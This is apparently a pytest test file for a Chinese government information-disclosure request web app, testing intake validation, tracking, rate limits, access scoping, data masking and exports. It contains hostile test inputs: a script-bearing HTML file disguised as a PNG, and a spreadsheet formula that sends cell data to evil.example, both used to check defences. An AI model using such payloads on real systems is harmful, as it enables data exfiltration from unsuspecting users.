"""Pages: the public form and status page, the staff list, case page and actions, unit scoping, exports."""

import io
import re
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from gongkai.audit.models import AuditEvent
from gongkai.foi import selectors, services
from gongkai.foi.models import Attachment, InfoRequest, Letter

from .conftest import PASSWORD, person

D = date
pytestmark = pytest.mark.django_db
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def form_data(data, **extra):
    out = {k: v for k, v in data.items() if v is not None}
    out.update(extra)
    return out


def make_case(county, unit=None, data=None, on=D(2026, 10, 12)):  # noqa: B008 - a constant date
    return services.submit_online(
        data or person(),
        unit=unit or county.zrzy,
        now=datetime(on.year, on.month, on.day, 9, tzinfo=ZoneInfo("Asia/Shanghai")),
    )


# --- public -----------------------------------------------------------------------------------------------------
def test_public_form_validates_in_chinese(client, county):
    r = client.get("/ysqgk/new/")
    assert r.status_code == 200 and "csrfmiddlewaretoken" in r.content.decode()
    r = client.post("/ysqgk/new/", form_data(person(), id_number="123", phone="", description="太短"))
    body = r.content.decode()
    assert r.status_code == 400
    assert "校验位正确" in body and "请填写联系电话" in body and "至少6个字" in body
    assert not InfoRequest.objects.exists()


def test_apply_online_then_track(client, county, today):
    today(D(2026, 10, 12))
    with open_png() as f:
        r = client.post("/ysqgk/new/", form_data(county.lawyer, unit=county.zrzy.pk, id_proof=f))
    assert r.status_code == 302 and r["Location"] == reverse("foi_public:done")
    case = InfoRequest.objects.get()
    assert case.unit == county.zrzy and case.channel == "online"
    done = client.get(r["Location"]).content.decode()
    tracking = re.search(r"data-tracking>([^<]+)<", done).group(1)
    verification = re.search(r"data-verification>([^<]+)<", done).group(1)
    assert tracking == case.tracking_code
    assert "答复期限为" in done
    # Shown once only.
    assert client.get(reverse("foi_public:done")).status_code == 302
    # The attachment is stored encrypted.
    att = Attachment.objects.get()
    from django.core.files.storage import default_storage

    with default_storage.open(att.blob, "rb") as fh:
        stored = fh.read()
    assert PNG not in stored and att.wrapped_key
    assert services.read_attachment(att, actor=county.officer) == PNG
    # Track by POST; nothing personal on the page; the codes never appear in a URL.
    r = client.post(
        "/ysqgk/track/",
        {"tracking_code": tracking.lower().replace("-", " "), "verification_code": verification},
    )
    page = r.content.decode()
    assert r.status_code == 200 and "示范县自然资源局" in page and "收到您的申请" in page
    for secret in ("林婉清", "13907990123", county.lawyer["id_number"], "府前路"):
        assert secret not in page
    r = client.post("/ysqgk/track/", {"tracking_code": tracking, "verification_code": "AAAAAAAA"})
    assert r.status_code == 404 and "不正确" in r.content.decode()


def open_png():
    from django.core.files.uploadedfile import SimpleUploadedFile

    class Ctx:
        def __enter__(self):
            return SimpleUploadedFile("身份证.png", PNG, content_type="image/png")

        def __exit__(self, *a):
            return False

    return Ctx()


def test_upload_checked_by_content(client, county):
    from django.core.files.uploadedfile import SimpleUploadedFile

    fake = SimpleUploadedFile("id.png", b"<html><script>alert(1)</script></html>", content_type="image/png")
    r = client.post("/ysqgk/new/", form_data(person(), id_proof=fake))
    assert r.status_code == 400 and "内容不是 PNG 图片（实际是网页）" in r.content.decode()
    renamed = SimpleUploadedFile("id.pdf", PNG, content_type="application/pdf")
    r = client.post("/ysqgk/new/", form_data(person(), id_proof=renamed))
    assert "但内容不是 PDF 文件（实际是 PNG 图片）" in r.content.decode()
    assert not InfoRequest.objects.exists()


def test_public_intake_is_rate_limited(client, county, settings):
    settings.GONGKAI_FOI_APPLY_PER_HOUR = 2
    for i in range(2):
        r = client.post(
            "/ysqgk/new/", form_data(person(description=f"第{i}份：城关镇老旧小区改造项目资金使用情况"))
        )
        assert r.status_code == 302
    r = client.post(
        "/ysqgk/new/", form_data(person(description="第三份：城关镇老旧小区改造项目资金使用情况"))
    )
    assert r.status_code == 429 and "过于频繁" in r.content.decode()
    assert InfoRequest.objects.count() == 2


def test_tracking_is_rate_limited(client, county, settings):
    settings.GONGKAI_FOI_TRACK_PER_10MIN = 3
    for _ in range(3):
        assert (
            client.post(
                "/ysqgk/track/", {"tracking_code": "YSQ-AAAA-BBBB-CC", "verification_code": "X"}
            ).status_code
            == 404
        )
    assert (
        client.post(
            "/ysqgk/track/", {"tracking_code": "YSQ-AAAA-BBBB-CC", "verification_code": "X"}
        ).status_code
        == 429
    )


def test_public_forms_need_csrf(county):
    from django.test import Client

    c = Client(enforce_csrf_checks=True)
    assert c.post("/ysqgk/new/", form_data(person())).status_code == 403
    assert c.post("/ysqgk/track/", {"tracking_code": "x", "verification_code": "y"}).status_code == 403


# --- staff ------------------------------------------------------------------------------------------------------
def login(client, user):
    assert client.login(username=user.username, password=PASSWORD)


def test_other_units_officer_gets_404_by_url_tampering(client, county, today):
    today(D(2026, 10, 20))
    intake = make_case(county)
    case = intake.case
    reply = services.draft_reply(
        case,
        actor=county.officer,
        outcome="withhold_secret",
        content="依法确定为国家秘密",
        on=D(2026, 10, 20),
    )
    letter = services.generate_letter(case, actor=county.officer, kind="reply_withhold_secret")
    att = services.add_attachments(case, actor=county.officer, kind="other", files=[simple_png()])[0]
    login(client, county.other)  # officer, leader and legal adviser — of the other unit
    urls = [
        reverse("foi:case", args=[case.pk]),
        reverse("foi:attachment", args=[case.pk, att.pk]),
        reverse("foi:letter", args=[case.pk, letter.pk]),
        reverse("foi:letter_docx", args=[case.pk, letter.pk]),
        reverse("foi:letter_pdf", args=[case.pk, letter.pk]),
    ]
    for url in urls:
        assert client.get(url).status_code == 404, url
    for action in ("countersign", "send", "note", "reply", "take", "reset_code", "assign"):
        r = client.post(
            reverse("foi:act", args=[case.pk, action]), {"reply": reply.pk, "approve": "1", "text": "x"}
        )
        assert r.status_code == 404, action
    list_page = client.get(reverse("foi:list")).content.decode()
    assert case.serial not in list_page
    reply.refresh_from_db()
    assert reply.status == "countersign"


def simple_png():
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("scan.png", PNG, content_type="image/png")


def test_case_page_and_actions(client, county, today):
    today(D(2026, 10, 20))
    case = make_case(county, on=D(2026, 9, 28)).case
    login(client, county.officer)
    page = client.get(reverse("foi:case", args=[case.pk])).content.decode()
    assert "2026年10月30日" in page and "剩余工作日" in page
    assert "国庆节调休上班，计为第5个工作日" in page  # the computation trace
    assert "赵德柱" in page  # the handling officer sees the applicant
    assert AuditEvent.objects.filter(action="foi.personal_data_viewed", actor=county.officer).exists()
    r = client.post(reverse("foi:act", args=[case.pk, "take"]))
    assert r.status_code == 302
    r = client.post(
        reverse("foi:act", args=[case.pk, "reply"]),
        {"outcome": "withhold_secret", "content": "", "on": "2026-10-20"},
    )
    assert r.status_code == 400 and "应当说明理由" in r.content.decode()
    r = client.post(
        reverse("foi:act", args=[case.pk, "reply"]),
        {"outcome": "partial", "content": "部分涉及个人隐私", "on": "2026-10-20"},
    )
    assert r.status_code == 302
    reply = case.replies.get()
    r = client.post(
        reverse("foi:act", args=[case.pk, "send"]), {"reply": reply.pk, "on": "2026-10-20", "method": "post"}
    )
    assert r.status_code == 403
    client.logout()
    login(client, county.legal)
    page = client.get(reverse("foi:case", args=[case.pk])).content.decode()
    assert "法律审核（会签）" in page
    client.post(
        reverse("foi:act", args=[case.pk, "countersign"]),
        {"reply": reply.pk, "approve": "1", "comments": "同意"},
    )
    client.logout()
    login(client, county.officer)
    r = client.post(
        reverse("foi:act", args=[case.pk, "send"]), {"reply": reply.pk, "on": "2026-10-20", "method": "post"}
    )
    assert r.status_code == 302
    case.refresh_from_db()
    assert case.state == "replied" and case.outcome == "partial"
    r = client.post(
        reverse("foi:act", args=[case.pk, "letter"]), {"kind": "reply_partial", "on": "2026-10-20"}
    )
    letter = Letter.objects.get()
    assert r["Location"] == reverse("foi:letter", args=[case.pk, letter.pk])
    assert "部分涉及个人隐私" in letter.body and "第三十七条" in letter.body and "60日内" in letter.body


def test_editor_of_the_unit_sees_masked_personal_data(client, county, today):
    today(D(2026, 10, 20))
    case = make_case(county).case
    login(client, county.editor)
    page = client.get(reverse("foi:case", args=[case.pk])).content.decode()
    assert "赵德柱" not in page and "赵**" in page and "138****1234" in page
    assert "已脱敏" in page
    assert not AuditEvent.objects.filter(action="foi.personal_data_viewed").exists()
    # …and cannot act.
    assert client.post(reverse("foi:act", args=[case.pk, "note"]), {"text": "x"}).status_code == 403


def test_export_masks_personal_data_unless_allowed(client, county, today):
    from openpyxl import load_workbook

    today(D(2026, 10, 20))
    make_case(county)
    login(client, county.editor)
    r = client.get(reverse("foi:export"))
    ws = load_workbook(io.BytesIO(r.content)).active
    row = [c.value for c in ws[2]]
    assert "赵**" in row and "138****1234" in row and "赵德柱" not in row
    client.logout()
    login(client, county.officer)
    ws = load_workbook(io.BytesIO(client.get(reverse("foi:export")).content)).active
    assert "赵德柱" in [c.value for c in ws[2]]
    assert AuditEvent.objects.filter(action="foi.export").count() == 2


def test_list_filters_and_paging(client, county, today):
    today(D(2026, 10, 27))
    a = make_case(county, on=D(2026, 9, 28)).case  # due 10/30 → due soon on 10/27
    b = make_case(county, data=person(description="示范县2026年财政预算公开表"), on=D(2026, 10, 20)).case
    login(client, county.officer)
    page = client.get(reverse("foi:list"), {"due": "due_soon"}).content.decode()
    assert a.serial in page and b.serial not in page
    page = client.get(reverse("foi:list"), {"q": "财政预算"}).content.decode()
    assert b.serial in page and a.serial not in page
    page = client.get(reverse("foi:list"), {"q": a.tracking_code.lower()}).content.decode()
    assert a.serial in page and b.serial not in page
    assert client.get(reverse("foi:list"), {"page": "999"}).status_code == 200


def test_staff_register_shows_the_verification_code_once(client, county, today):
    today(D(2026, 10, 20))
    login(client, county.officer)
    data = form_data(
        person(), channel="letter", submitted_on="2026-10-09", signed_for="2026-10-12", unit=county.zrzy.pk
    )
    r = client.post(reverse("foi:register"), data)
    assert r.status_code == 302
    case = InfoRequest.objects.get()
    assert case.receipt_date == D(2026, 10, 12)
    page = client.get(r["Location"]).content.decode()
    code = re.search(r"data-new-verification>([^<]+)<", page).group(1)
    assert selectors.lookup(case.tracking_code, code) == case
    assert "data-new-verification" not in client.get(r["Location"]).content.decode()
    r = client.post(
        reverse("foi:register"),
        form_data(person(), channel="fax", submitted_on="2026-10-09", unit=county.zrzy.pk),
    )
    assert r.status_code == 200 and "确认日期" in r.content.decode()


def test_office_pages_are_office_only(client, county):
    login(client, county.officer)
    for name in ("foi:templates", "foi:policy", "foi:frequent"):
        assert client.get(reverse(name)).status_code == 404
    client.logout()
    login(client, county.admin)
    for name in ("foi:templates", "foi:policy", "foi:frequent", "foi:dashboard"):
        assert client.get(reverse(name)).status_code == 200
    r = client.post(
        reverse("foi:template_edit", args=["correction"]),
        {"title": "补正告知书", "body": "{{申请人}}：{{不存在}}"},
    )
    assert "未知的字段：不存在" in r.content.decode()
    r = client.post(
        reverse("foi:template_edit", args=["correction"]),
        {"title": "补正告知书", "body": "{{申请人}}：请补正{{补正事项}}。"},
    )
    assert r.status_code == 302


def test_a_refused_action_is_shown_beside_its_field(client, county, today):
    """The extension cap (one check, in core.foi_rules) comes back through service_call onto the days field."""
    today(D(2026, 10, 20))
    case = make_case(county, on=D(2026, 10, 12)).case
    login(client, county.officer)
    r = client.post(
        reverse("foi:act", args=[case.pk, "extension"]),
        {"days": "25", "reason": "档案量大", "on": "2026-10-20"},
    )
    page = r.content.decode()
    assert r.status_code == 400
    error = re.search(
        r'field-days has-error".*?<span class="field-error" role="alert">([^<]+)</span>', page, re.S
    )
    assert error and "最长不得超过20个工作日" in error.group(1) and "本次最多20个工作日" in error.group(1)
    assert not case.extensions.exists()
    # A leader of the unit may not handle the case: 403 from access, before any form is read.
    client.logout()
    login(client, county.leader)
    r = client.post(reverse("foi:act", args=[case.pk, "extension"]), {"days": "5", "reason": "x"})
    assert r.status_code == 403


def test_export_writes_an_applicants_formula_as_text(client, county, today):
    """An applicant's ``=HYPERLINK(…)`` must not become a live formula in the office's spreadsheet."""
    from openpyxl import load_workbook

    today(D(2026, 10, 20))
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    case = make_case(county).case
    InfoRequest.objects.filter(pk=case.pk).update(description=payload)
    login(client, county.officer)
    sheet = load_workbook(io.BytesIO(client.get(reverse("foi:export")).content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + payload in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
